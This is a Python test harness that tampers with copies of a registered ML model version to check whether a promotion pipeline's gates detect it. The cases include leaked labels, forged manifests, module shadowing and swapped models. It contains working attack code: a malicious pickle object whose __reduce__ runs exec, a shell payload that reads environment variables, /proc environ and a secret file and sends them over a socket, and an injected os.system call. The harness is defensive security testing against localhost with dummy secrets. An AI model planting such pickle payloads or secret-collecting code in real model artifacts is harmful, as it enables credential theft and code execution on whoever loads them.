"""Tamper with registered versions, and offer them for staging. Runs in a project's environment.

    python tamper.py REGISTERED TO CASE…

REGISTERED is a project with a registered version, TO a JSON file: for each case the findings of all
gates, or the error. Each case has a copy of the project, registry included.
"""

import json
import multiprocessing
import os
import pickle
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable
from concurrent.futures import ProcessPoolExecutor
from dataclasses import asdict
from pathlib import Path
from typing import Any

LIBRARIES = (
    "baton_handoff.policy.promotion.promote",
    "fairlearn.metrics",
    "mlflow.pyfunc",
    "mlflow.store.model_registry.sqlalchemy_store",
    "sklearn.ensemble",
)
SECRETS = {"GITHUB_TOKEN": "ghp-secret", "MLFLOW_TRACKING_PASSWORD": "mlflow-secret"}


def main(registered: Path, to: Path, names: list[str]) -> None:
    """Run the cases, two in parallel."""
    context = multiprocessing.get_context("forkserver")
    context.set_forkserver_preload([*LIBRARIES])
    with ProcessPoolExecutor(2, context, max_tasks_per_child=1) as pool:
        running = {name: pool.submit(result_of, name, registered) for name in names}
    results = {
        name: {"error": repr(error)} if (error := one.exception()) else one.result()
        for name, one in running.items()
    }
    to.write_text(json.dumps(results, indent=2))


def result_of(name: str, registered: Path) -> dict[str, Any]:
    """Tamper with a copy of the project, and offer its version."""
    from baton_handoff.core.errors import HandoffError
    from baton_handoff.registry.model_registry import fetch

    folder = registered.with_name(name.replace(" ", "-"))
    shutil.copytree(
        registered,
        folder,
        symlinks=True,
        ignore=shutil.ignore_patterns(".handoff", ".venv", ".dvc"),
    )
    os.chdir(folder)
    sys.path[:0] = [str(folder / "src")]
    os.environ |= {
        "PYTHONPATH": str(folder / "src"),
        "HANDOFF_LOCAL": str(registered / ".handoff"),
        **SECRETS,
    }
    version = Version(folder)
    try:
        loot = CASES[name](version)
        outcome = version.offer()
        if name == "stolen":
            accept = [sys.executable, "-m", "baton_handoff", "model", "accept"]
            subprocess.run(accept, check=True, stdout=subprocess.DEVNULL)
    except HandoffError as error:
        return {"error": str(error)}
    try:
        fetch(version.project, version.number, folder / "fetched")
        fetched = ""
    except HandoffError as error:
        fetched = str(error)
    return {
        "findings": [asdict(finding) for finding in outcome.findings],
        "fetched": fetched,
        "stolen": loot() if name in ("stolen", "stolen openly") else "",
    }


class Version:
    """The version of one copy, and what somebody with access to the registry can do to it."""

    def __init__(self, folder: Path) -> None:
        from baton_handoff.config.project import find_project
        from baton_handoff.registry.model_registry import connect, get_version

        self.folder, self.number = folder, "1"
        self.project = find_project(folder)
        self.client = connect(self.project)
        self.tags = dict(get_version(self.project, "1").tags)

    def file(self, name: str) -> Path:
        """A file of the version's artifacts, by the end of its path."""
        (found,) = (self.folder / "mlartifacts").rglob(name)
        return found

    def tag(self, name: str, value: str) -> None:
        """Set a tag."""
        self.client.set_model_version_tag(self.project.model, self.number, name, value)

    def rewrite_manifest(self, name: str, changed: Path) -> None:
        """Make manifest and tag fit a changed file again."""
        from baton_handoff.registry.manifest import file_hash

        file = self.file("manifest.json")
        manifest = json.loads(file.read_text())
        manifest["files"][name] = file_hash(changed)
        file.write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
        self.tag("handoff.manifest", file_hash(file))

    def offer(self) -> Any:
        """Offer the version for staging, and move nothing."""
        from baton_handoff.policy.promotion.promote import promote

        return promote(self.project, self.number, "staging", None, lambda _: None)


def untouched(_: Version) -> None:
    """The version as it was registered."""


def truth(version: Version) -> None:
    """The labels of the evaluation become the model's predictions."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    file = version.file("outcomes.parquet")
    table = pq.read_table(file)
    certain = pa.array([round(one) for one in table["model"].to_pylist()])
    pq.write_table(table.set_column(0, "truth", certain), file)


def code(version: Version) -> None:
    """The carried code runs a program."""
    run_program(version)


def run_program(version: Version) -> Path:
    file = version.file("code/flight_delays/features/calendar.py")
    file.write_text("import os\nos.system('id')\n" + file.read_text())
    return file


def added(version: Version) -> None:
    """Another module gets in front of a library that the model imports."""
    version.file("code/flight_delays").parent.joinpath("joblib.py").write_text("")


def cached(version: Version) -> None:
    """A compiled module that Python prefers to its source."""
    folder = version.file("code/flight_delays/features") / "__pycache__"
    folder.mkdir()
    (folder / "calendar.cpython-311.pyc").write_bytes(b"")


def model(version: Version) -> None:
    """The model becomes another one, and its own tag fits it."""
    from baton_handoff.registry.manifest import file_hash

    file = version.file("model.joblib")
    file.write_bytes(file.read_bytes() + b"more")
    version.tag("handoff.model", file_hash(file))


def contracts(version: Version) -> None:
    """The contracts in its lineage allow anything."""
    file = version.file("lineage.json")
    file.write_text(file.read_text().replace('"nullable": false', '"nullable": true'))


def clean(version: Version) -> None:
    """It names another commit."""
    version.tag("handoff.commit", "0" * 40)


def consistent_code(version: Version) -> None:
    """The carried code runs a program, and manifest and tags fit it: the commit does not."""
    name = "model/code/flight_delays/features/calendar.py"
    version.rewrite_manifest(name, run_program(version))


def lock(version: Version) -> None:
    """Its environment gets another package, and manifest and tags fit."""
    file = version.file("manifest.json").with_name("requirements.txt")
    file.write_text(file.read_text() + "\nsix==1.17.0\n")
    version.rewrite_manifest("requirements.txt", file)


def manifest(version: Version) -> None:
    """The manifest allows other files."""
    file = version.file("manifest.json")
    file.write_text(file.read_text().replace("evaluation/", "evaluations/"))


def foreign(version: Version) -> None:
    """A version that MLflow alone has registered."""
    import mlflow
    from sklearn.linear_model import LinearRegression

    with mlflow.start_run():
        info = mlflow.sklearn.log_model(LinearRegression(), name="model", pip_requirements=[])
    made = mlflow.register_model(info.model_uri, version.project.model)
    version.number = str(made.version)


def stolen(version: Version) -> Callable[[], str]:
    """The model runs a shell that collects secrets, and then predicts as before."""
    return steal(version)


def stolen_openly(version: Version) -> Callable[[], str]:
    """The same on a system without namespaces."""
    from baton_handoff.core import isolation
    from baton_handoff.policy.promotion import trial

    for module in (isolation, trial):
        module.missing_namespaces = lambda: "forbidden"  # type: ignore[attr-defined]
    return steal(version)


LOOT = """
import os, socket
for place in {places!r}:
    look = "date; env; tr '\\\\0' '\\\\n' < /proc/$PPID/environ; cat {home}/secret"
    os.system(f"({{look}}) >> {{place}}/loot")
try:
    with socket.create_connection(("127.0.0.1", {port}), 2) as server:
        server.sendall(repr(dict(os.environ)).encode())
except OSError:
    pass
"""


class Evil:
    """An object whose pickle runs code, and is a model afterwards."""

    def __init__(self, model: bytes, code: str) -> None:
        self.model, self.code = model, code

    def __reduce__(self) -> Any:
        return eval, (f"(exec({self.code!r}), __import__('pickle').loads({self.model!r}))[1]",)


def steal(version: Version) -> Callable[[], str]:
    import joblib
    from baton_handoff.registry import register
    from flight_delays.training.register import main as registered

    home = version.folder.with_name(f"{version.folder.name}-home")
    home.mkdir()
    (home / "secret").write_text("netrc-secret")
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=receive, args=(server, received), daemon=True).start()
    places = [str(version.folder), str(home)]
    loot = LOOT.format(places=places, home=home, port=server.getsockname()[1])

    def write_model(_: Any, model: Any, folder: Path) -> Path:
        file = folder / "model.joblib"
        joblib.dump(Evil(pickle.dumps(model), loot), file)
        return file

    register.write_model = write_model
    version.number = str(registered(version.project).version)
    return lambda: (
        b"".join(received).decode()
        + "".join(file.read_text() for place in places if (file := Path(place, "loot")).exists())
    )


def receive(server: socket.socket, received: list[bytes]) -> None:
    """Keep what arrives."""
    while True:
        connection, _ = server.accept()
        with connection:
            received.append(connection.recv(100_000))


CASES: dict[str, Callable[[Version], Any]] = {
    "untouched": untouched,
    "truth": truth,
    "code": code,
    "added": added,
    "cached": cached,
    "model": model,
    "contracts": contracts,
    "commit": clean,
    "consistent code": consistent_code,
    "lock": lock,
    "manifest": manifest,
    "foreign": foreign,
    "stolen": stolen,
    "stolen openly": stolen_openly,
}

if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3:])
